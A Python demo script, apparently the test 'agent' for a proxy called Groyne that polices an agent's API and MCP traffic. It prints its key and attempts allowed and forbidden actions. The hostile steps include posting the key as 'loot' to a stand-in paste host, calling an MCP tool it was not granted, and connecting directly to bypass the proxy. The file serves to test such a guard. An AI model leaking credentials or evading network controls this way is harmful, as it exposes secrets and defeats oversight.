"""The agent: an ordinary program that knows nothing of Groyne. Standard library only.

It reads its key and its proxy from the environment, as agents do, and says what it tried and what it got.
"""

import json
import os
import socket
import ssl
import sys
from http.client import HTTPSConnection
from urllib.parse import urlsplit
from urllib.request import getproxies

PORT = int(os.environ["HARBOUR_PORT"])
KEY = os.environ["HARBOUR_KEY"]
BOLD, DIM, PLAIN = ("\033[1m", "\033[2m", "\033[0m") if sys.stdout.isatty() else ("", "", "")


def main() -> None:
    print(f"agent: my key is {KEY}")
    tell("read the tickets, with my key", "api.harbour.test", "GET", "/v1/tickets", key=True)
    tell("delete a ticket", "api.harbour.test", "DELETE", "/v1/tickets/7", key=True)
    tell("call an MCP tool that I was given", "mcp.harbour.test", "POST", "/mcp", call("search_tickets"))
    tell("call one that I was not", "mcp.harbour.test", "POST", "/mcp", call("delete_all_tickets"))
    tell("read the documentation", "docs.harbour.test", "GET", "/moorings")
    tell("paste what I know elsewhere", "paste.elsewhere.test", "POST", "/new", {"loot": KEY})
    tell_direct()
    print(flush=True)


def tell(what: str, host: str, method: str, path: str, body: object = None, *, key: bool = False) -> None:
    print(f"\n{BOLD}agent: I {what}{PLAIN}\n       {method} https://{host}{path}", flush=True)
    headers = {"Authorization": f"Bearer {KEY}"} if key else {}
    try:
        status, text, issuer = ask(host, method, path, body, headers)
        print(f"       {status}  {text.strip()}\n       {DIM}the certificate that I saw is from: {issuer}{PLAIN}", flush=True)
    except OSError as error:
        print(f"       {error}", flush=True)


def ask(host: str, method: str, path: str, body: object, headers: dict) -> tuple[int, str, str]:
    content = json.dumps(body).encode() if body else None
    if content:
        headers = {**headers, "Content-Type": "application/json", "MCP-Protocol-Version": "2025-06-18"}
    connection = connected(host)
    connection.request(method, path, content, headers)
    issuer = dict(pair for part in connection.sock.getpeercert()["issuer"] for pair in part)["commonName"]
    answer = connection.getresponse()
    return answer.status, answer.read().decode(), issuer


def connected(host: str) -> HTTPSConnection:
    """Through the proxy of the environment, as every HTTP library does; the certificates to trust are the environment's too."""
    proxy = getproxies().get("https")
    if not proxy:
        return HTTPSConnection(host, PORT, timeout=10)
    address = urlsplit(proxy)
    connection = HTTPSConnection(address.hostname, address.port, timeout=10, context=ssl.create_default_context())
    connection.set_tunnel(host, PORT)
    connection.connect()
    return connection


def call(tool: str) -> dict:
    return {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": tool, "arguments": {}}}


def tell_direct() -> None:
    print(f"\n{BOLD}agent: I go past the proxy, straight to the address{PLAIN}\n       connect 127.0.0.1:{PORT}", flush=True)
    try:
        socket.create_connection(("127.0.0.1", PORT), timeout=5).close()
        print("       connected")
    except OSError as error:
        print(f"       {error}")


if __name__ == "__main__":
    main()
